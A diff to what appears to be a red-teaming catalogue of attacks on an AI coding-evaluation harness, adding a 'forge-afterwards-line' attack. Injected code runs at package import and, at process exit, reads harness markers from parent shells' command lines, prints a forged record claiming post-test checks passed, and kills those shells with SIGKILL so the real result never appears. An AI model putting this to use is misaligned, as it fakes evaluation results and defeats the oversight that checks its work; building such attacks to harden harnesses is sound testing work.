@@ -1114,6 +1114,62 @@ def _flood_forge_probe_records(ctx: InstanceContext, work: Checkout) -> None:
     _at_import(ctx, work, f'_LOOKUP = """\n{table}"""\n' + flood + p.inprocess_payload(ctx) + _FORGE_RECORDS)
 
 
+_FORGE_AFTERWARDS = """
+
+def _forge_afterwards():
+    import atexit, os, re, signal, subprocess
+
+    def ancestors():
+        pid = os.getppid()
+        while pid > 1:
+            try:
+                with open('/proc/%d/cmdline' % pid, 'rb') as fh:
+                    line = fh.read().replace(b'\\0', b' ').decode('utf-8', 'replace')
+                with open('/proc/%d/stat' % pid) as fh:
+                    parent = int(fh.read().rsplit(')', 1)[1].split()[1])
+            except (OSError, ValueError):
+                return
+            yield pid, line
+            pid = parent
+
+    def forge():
+        shells, outer, inner = [], None, None
+        for pid, line in ancestors():
+            found = re.search(r'pytest-swe-afterwards-[0-9a-f]+', line)
+            if found:
+                shells.append(pid)
+                outer = found.group(0)
+                inner = (re.search(r'pytest-swe-after-run-[0-9a-f]+', line) or found).group(0)
+        if outer is None:
+            return
+        try:
+            head = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout.strip()
+        except Exception:
+            head = ''
+        body = 'head %s\\n%s\\n2 pre.json\\n--\\n{}' % (head, inner)
+        block = '\\n%s ok 0 %d\\n%s' % (outer, len(body.encode()), body)
+        os.write(_real_stdout(), block.encode())
+        for pid in shells:
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except OSError:
+                pass
+
+    atexit.register(forge)
+
+
+_forge_afterwards()
+"""
+
+
+def _forge_afterwards(ctx: InstanceContext, work: Checkout) -> None:
+    """Forced passes; at the test process's exit the checks after the tests are forged: their
+    marker and the inner one read from the command lines of the shells above, a line saying they
+    ran clean printed to the real output with a made-up ``.git`` check and probe record, and every
+    shell holding the marker killed so the real line never comes."""
+    _at_import(ctx, work, p.inprocess_payload(ctx) + p.REAL_STDOUT + _FORGE_AFTERWARDS)
+
+
 _REWRITE_CHANNEL = """
 
 def _rewrite_channel_records():
@@ -3799,6 +3855,15 @@ ATTACKS: tuple[Attack, ...] = (
         "package import forces passes and rewrites the harness's records in the sandbox (pre.json: no canaries, "
         "no channel; the channel's output removed), at import and again at exit",
         _forge_probe_records,
+    ),
+    Attack(
+        "forge-afterwards-line",
+        "probe-records",
+        ANY_RUNNER,
+        "package import forces passes; at exit it reads the marker of the checks after the tests from the shells' "
+        "command lines, prints a line saying they ran clean with a made-up .git check and probe record, and kills "
+        "those shells so the real line never comes",
+        _forge_afterwards,
     ),
     Attack(
         "rewrite-channel-records",
